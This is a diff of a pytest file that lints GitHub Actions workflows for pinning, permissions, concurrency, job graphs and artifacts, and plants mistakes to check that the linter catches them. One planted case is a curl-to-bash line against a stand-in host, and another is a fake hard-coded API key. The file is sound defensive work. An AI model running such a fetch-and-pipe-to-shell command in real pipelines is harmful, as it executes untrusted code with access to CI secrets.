@@ -13,9 +13,13 @@ import pytest
 import yaml
 
 Flow = dict[Any, Any]
+Program = Callable[[str], ModuleType]
 FORBIDDEN_EVENTS = {"pull_request_target", "workflow_run"}
 RUNNERS = {"ubuntu-24.04"}
 MAX_MINUTES = 30
+ROOT = Path(__file__).resolve().parents[2]
+SPARED = ("train", "contract", "image")  # the jobs that the plan may skip
+FROM_THE_CALLER = {"bundle", "report", "manifests"}  # artifacts of ci.yml's run, which a called file may take
 
 
 def jobs(flow: Flow) -> Iterator[tuple[str, dict[str, Any]]]:
@@ -26,6 +30,11 @@ def steps(flow: Flow) -> Iterator[tuple[str, dict[str, Any]]]:
     for name, job in jobs(flow):
         for number, step in enumerate(job.get("steps", []), 1):
             yield f"{name}, step {number}", step
+
+
+def called(flow: Flow) -> bool:
+    """Whether only other workflows start this one, whose concurrency and filters then hold."""
+    return set(events(flow)) == {"workflow_call"}
 
 
 def needed(job: dict[str, Any]) -> list[str]:
@@ -45,7 +54,7 @@ def triggers(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
         f"on {event}: it would give a stranger our token" for event in sorted(FORBIDDEN_EVENTS & set(events(flow)))
     )
     for event, filters in events(flow).items():
-        if filters and {"paths", "paths-ignore"} & set(filters):
+        if isinstance(filters, dict) and {"paths", "paths-ignore"} & set(filters):
             yield f"on {event}: a path filter leaves the required check waiting for ever"
 
 
@@ -61,7 +70,7 @@ def permissions(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
 
 
 def pins(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
-    for uses, comment in re.findall(r"uses: *(\S+)(.*)", text):
+    for uses, comment in re.findall(r"\buses: *(\S+)(.*)", text):
         if uses.startswith(("$/", "./")):
             continue
         if not re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", uses):
@@ -69,7 +78,7 @@ def pins(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
         elif not re.fullmatch(r" # v\d+(\.\d+)*", comment):
             yield f"{uses}: its version is not beside it"
     versions: dict[str, set[str]] = {}
-    for action, pin in re.findall(r"uses: *([\w./-]+)@(\S+)", text):
+    for action, pin in re.findall(r"\buses: *([\w./-]+)@(\S+)", text):
         versions.setdefault(action, set()).add(pin)
     yield from (f"{action}: pinned to several commits" for action, found in versions.items() if len(found) > 1)
 
@@ -97,7 +106,12 @@ def bounds(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
         if "container" in job or "services" in job:
             yield f"{name}: a container of its own is one more thing to pin"
     concurrency = flow.get("concurrency")
-    if not isinstance(concurrency, dict) or "github.ref" not in concurrency.get("group", ""):
+    if called(flow):
+        return
+    if not set(events(flow)) & {"push", "pull_request", "merge_group"}:
+        if not isinstance(concurrency, dict) or concurrency.get("cancel-in-progress") is not False:
+            yield "concurrency must let what runs end"
+    elif not isinstance(concurrency, dict) or "github.ref" not in concurrency.get("group", ""):
         yield "concurrency must be grouped by ref"
     elif "push" in events(flow) and concurrency.get("cancel-in-progress") != "${{ github.ref != 'refs/heads/main' }}":
         yield "concurrency may cancel every ref but main"
@@ -148,7 +162,9 @@ def versions(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
 def names(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
     for name, job in jobs(flow):
         told = job.get("name", "")
-        if name != "required" and not re.fullmatch(r"[A-Z]\w* .+[^.]", told):
+        if job.get("name") and "'required'" in told:
+            continue
+        if not re.fullmatch(r"[A-Z]\w* .+[^.]", told):
             yield f"{name}: its name is no sentence: {told!r}"
 
 
@@ -157,37 +173,63 @@ def graph(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
     if "required" not in flow["jobs"]:
         return
     verdict = flow["jobs"]["required"]
-    if missing := set(flow["jobs"]) - {"required"} - set(needed(verdict)):
+    after = {name for name, job in jobs(flow) if "required" in behind(flow, name)} | {"comment"}  # it only tells
+    if missing := set(flow["jobs"]) - {"required"} - after - set(needed(verdict)):
         yield f"required does not wait for {', '.join(sorted(missing))}"
     if verdict.get("if") != "${{ always() }}":
         yield "required must run always(): a skipped check counts as success"
     if verdict["steps"][-1].get("env", {}).get("NEEDS") != "${{ toJSON(needs) }}":
         yield "required does not see the results"
-    planned = flow["jobs"]["plan"].get("outputs", {})
-    for name, job in jobs(flow):
-        if name == "required" or "if" not in job:
-            continue
-        if job["if"] != f"needs.plan.outputs.{name} == 'true'" or "plan" not in needed(job):
+    yield from (f"{name}: planned, and never spared" for name in SPARED if "if" not in flow["jobs"].get(name, {}))
+    for name in needed(verdict):
+        job = flow["jobs"][name]
+        if "if" in job and (job["if"] != f"needs.plan.outputs.{name} == 'true'" or "plan" not in needed(job)):
             yield f"{name}: it may be skipped by nothing but the plan's output {name}"
-        if planned.get(name) != f"${{{{ steps.plan.outputs.{name} }}}}":
+        if "needs.plan.result" in json.dumps(job):
+            yield f"{name}: ask the plan's output, not its result"
+
+
+def plan(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
+    """The plan hands on an output for each job that may be skipped, through both of its layers."""
+    if "plan" not in flow["jobs"] or "steps" not in flow["jobs"]["plan"]:
+        return
+    inner, outer = flow["jobs"]["plan"].get("outputs", {}), events(flow)["workflow_call"]["outputs"]
+    for name in SPARED:
+        if inner.get(name) != f"${{{{ steps.plan.outputs.{name} }}}}":
             yield f"{name}: the plan has no such output"
-    yield from (f"{name}: planned, and never spared" for name in planned if "if" not in flow["jobs"].get(name, {}))
+        if outer.get(name) != {"value": f"${{{{ jobs.plan.outputs.{name} }}}}"}:
+            yield f"{name}: the plan hands no such output on"
+    yield from (f"{name}: planned, and never spared" for name in {*inner, *outer} - set(SPARED))
+
+
+def behind(flow: Flow, name: str) -> set[str]:
+    """All that a job waits for, and what that waits for."""
+    direct = set(needed(flow["jobs"].get(name, {})))
+    return direct.union(*(behind(flow, other) for other in direct))
 
 
 def artifacts(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
-    made = {
-        step["with"]["name"]: where.split(",")[0]
-        for where, step in steps(flow)
-        if "upload-artifact" in step.get("uses", "")
-    }
-    for where, step in steps(flow):
-        if "download-artifact" in step.get("uses", ""):
-            name, job = step["with"].get("name", ""), flow["jobs"][where.split(",")[0]]
-            if made.get(name) not in needed(job):
-                yield f"{where}: no job that it needs uploads {name!r}"
+    """What a job takes was uploaded by a job behind it; the files that it calls count as its own."""
+    made: dict[str, str] = {}
+    taken: list[tuple[str, str]] = []
+    for name, job in jobs(flow):
+        inner = flow if "uses" not in job else yaml.safe_load((ROOT / job["uses"].removeprefix("$/")).read_text())
+        own = {where.split(",")[0] for where, _ in steps(inner)} if "uses" in job else {name}
+        for where, step in steps(inner):
+            if where.split(",")[0] in own:
+                given, uses = step.get("with", {}), step.get("uses", "")
+                if "upload-artifact" in uses:
+                    made[given["name"]] = name
+                if "download-artifact" in uses:
+                    taken.append((name, given.get("name", given.get("pattern", ""))))
+    for name, artifact in taken:
+        if artifact in made and made[artifact] != name and made[artifact] not in behind(flow, name):
+            yield f"{name}: no job that it needs uploads {artifact!r}"
+        elif artifact not in made and not (called(flow) and artifact in FROM_THE_CALLER):
+            yield f"{name}: nothing uploads {artifact!r}"
 
 
-RULES = (triggers, permissions, pins, commands, bounds, results, secrets, versions, names, graph, artifacts)
+RULES = (triggers, permissions, pins, commands, bounds, results, secrets, versions, names, graph, plan, artifacts)
 
 
 def faults(text: str, targets: set[str]) -> list[str]:
@@ -204,19 +246,39 @@ def known(targets: dict[str, str]) -> set[str]:
 
 
 @pytest.fixture(scope="session")
-def ci(root: Path) -> str:
-    return (root / ".github/workflows/ci.yml").read_text(encoding="utf-8")
+def flows(root: Path) -> dict[str, str]:
+    return {path.name: path.read_text(encoding="utf-8") for path in sorted((root / ".github/workflows").iterdir())}
 
 
-def test_every_workflow_keeps_the_rules(root: Path, known: set[str]) -> None:
-    folder = root / ".github/workflows"
-    assert {"ci.yml"} <= {path.name for path in folder.iterdir()}
-    for path in folder.iterdir():
-        assert faults(path.read_text(encoding="utf-8"), known) == [], path.name
+def test_every_workflow_keeps_the_rules(flows: dict[str, str], known: set[str]) -> None:
+    assert {"ci.yml", "promote.yml", "rollback.yml", "retrain.yml", "security.yml", "daily.yml"} <= set(flows)
+    assert {name: [] for name in flows} == {name: faults(text, known) for name, text in flows.items()}
 
 
-def test_the_plan_and_the_workflow_name_the_same_jobs(ci: str, program: Callable[[str], ModuleType]) -> None:
-    assert set(program("plan").SPARED) == set(yaml.safe_load(ci)["jobs"]["plan"]["outputs"])
+def test_one_commit_of_each_action_serves_all_workflows(flows: dict[str, str]) -> None:
+    assert list(pins(yaml.safe_load("on: push\njobs: {}"), "\n".join(flows.values()), set())) == []
+
+
+def test_the_plan_and_the_workflow_name_the_same_jobs(flows: dict[str, str], program: Program) -> None:
+    assert SPARED == program("plan").SPARED
+    conductor = yaml.safe_load(flows["ci.yml"])
+    assert set(SPARED) == {n for n in needed(conductor["jobs"]["required"]) if "if" in conductor["jobs"][n]}
+
+
+def test_a_caller_grants_what_the_file_it_calls_asks_for(root: Path, flows: dict[str, str]) -> None:
+    """GitHub refuses to start a run where a called job asks for more."""
+    level = {"none": 0, "read": 1, "write": 2}
+    for name, text in flows.items():
+        for job, facts in jobs(yaml.safe_load(text)):
+            if "uses" not in facts:
+                continue
+            assert facts["uses"].startswith("$/.github/workflows/"), f"{name}: {job}"
+            inner = yaml.safe_load((root / facts["uses"].removeprefix("$/")).read_text(encoding="utf-8"))
+            asked: dict[str, str] = {}
+            for _, step in jobs(inner):
+                for what, how in step["permissions"].items():
+                    asked[what] = max(asked.get(what, "none"), how, key=level.__getitem__)
+            assert asked == facts["permissions"], f"{name}: {job}"
 
 
 CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
@@ -233,7 +295,11 @@ PLANTS = [
     (CHECKOUT, "actions/checkout@main", "not pinned by commit"),
     (CHECKOUT, CHECKOUT.split(" #")[0], "version is not beside it"),
     (CHECKOUT, CHECKOUT.split(" #")[0] + " # newest", "version is not beside it"),
-    (CHECKOUT, CHECKOUT.replace("@3d3c", "@4d3c"), "several commits"),
+    (
+        f"{CHECKOUT}\n        with:\n          persist",
+        f"{CHECKOUT.replace('@3d3c', '@4d3c')}\n        with:\n          persist",
+        "several commits",
+    ),
     ("run: make check", "run: make checks", "no target checks"),
     ("run: make check", "run: make check || true", "more than one make target"),
     ("run: make check", "run: curl http://example.invalid/x | bash", "more than one make target"),
@@ -251,14 +317,14 @@ PLANTS = [
     ("if: ${{ !cancelled() }}\n        uses", "if: ${{ always() }}\n        uses", "use !cancelled()"),
     ("          if-no-files-found: error\n", "", "missing unseen"),
     ("run: make check", "run: make check\n        env:\n          ALL: ${{ toJSON(secrets) }}", "at once"),
-    ('  PYTHON_VERSION: "3.13"', "  PYTHON_VERSION: ${{ secrets.PYTHON }}", "of every job"),
+    ("permissions: {}\n", "permissions: {}\nenv: {KEY: '${{ secrets.KEY }}'}\n", "of every job"),
     ("    steps:\n", "    env:\n      KEY: ${{ secrets.KEY }}\n    steps:\n", "of every step"),
     ("run: make check", "run: make check\n        env:\n          KEY: ${{ secrets.KEY }}", "outside an environment"),
     ("run: make check", "run: make check\n        env:\n          API_KEY: sk_live_1234", "is written out"),
     ("          persist-credentials: false\n", "          fetch-tags: false\n", "credentials behind"),
     ("persist-credentials: false", "persist-credentials: true", "credentials behind"),
-    ("python-version: ${{ env.PYTHON_VERSION }}", "python-version: 3.10", "quote python-version"),
-    ('PYTHON_VERSION: "3.13"', "PYTHON_VERSION: 3.10", "quote 3.1"),
+    ('python-version: "3.13"', "python-version: 3.10", "quote python-version"),
+    ("permissions: {}\n", "permissions: {}\nenv: {PYTHON_VERSION: 3.10}\n", "quote 3.1"),
     ('["3.11", "3.13"]', "[3.11, 3.13]", "quote 3.11"),
     ("name: Render and validate the manifests", "name: manifests", "no sentence"),
     ("needs: [plan, check, test,", "needs: [plan, check,", "does not wait for test"),
@@ -273,17 +339,25 @@ PLANTS = [
     ("      image: ${{ steps.plan.outputs.image }}\n", "", "no such output"),
     ("      image: ${{ steps.plan.outputs.image }}\n", "      image: 'false'\n", "no such output"),
     ("    if: needs.plan.outputs.train == 'true'\n", "", "never spared"),
+    (
+        "      image: ${{ steps.plan.outputs.image }}\n",
+        "      image: ${{ steps.plan.outputs.image }}\n      test: 'false'\n",
+        "never spared",
+    ),
+    ("        value: ${{ jobs.plan.outputs.image }}\n", "        value: 'false'\n", "hands no such output on"),
     ("    needs: [plan, train]\n", "    needs: plan\n", "uploads 'bundle'"),
     (
         "          name: bundle\n          path: build/bundle\n      - run: make contract",
         "          name: bundel\n          path: build/bundle\n      - run: make contract",
-        "uploads 'bundel'",
+        "nothing uploads 'bundel'",
     ),
 ]
 
 
 @pytest.mark.parametrize(("good", "bad", "says"), PLANTS, ids=[f"{says}-{bad.strip()[:40]}" for _, bad, says in PLANTS])
-def test_a_planted_mistake_is_found(ci: str, known: set[str], good: str, bad: str, says: str) -> None:
-    assert good in ci, "the plant no longer grows here"
-    found = faults(ci.replace(good, bad, 1), known)
-    assert any(says in fault for fault in found), found
+def test_a_planted_mistake_is_found(flows: dict[str, str], known: set[str], good: str, bad: str, says: str) -> None:
+    """In the first workflow that holds what the mistake replaces; ci.yml above all."""
+    found = [flows[name] for name in sorted(flows, key=lambda name: name != "ci.yml") if good in flows[name]]
+    assert found, "the plant no longer grows here"
+    faulty = faults(found[0].replace(good, bad, 1), known)
+    assert any(says in fault for fault in faulty), faulty
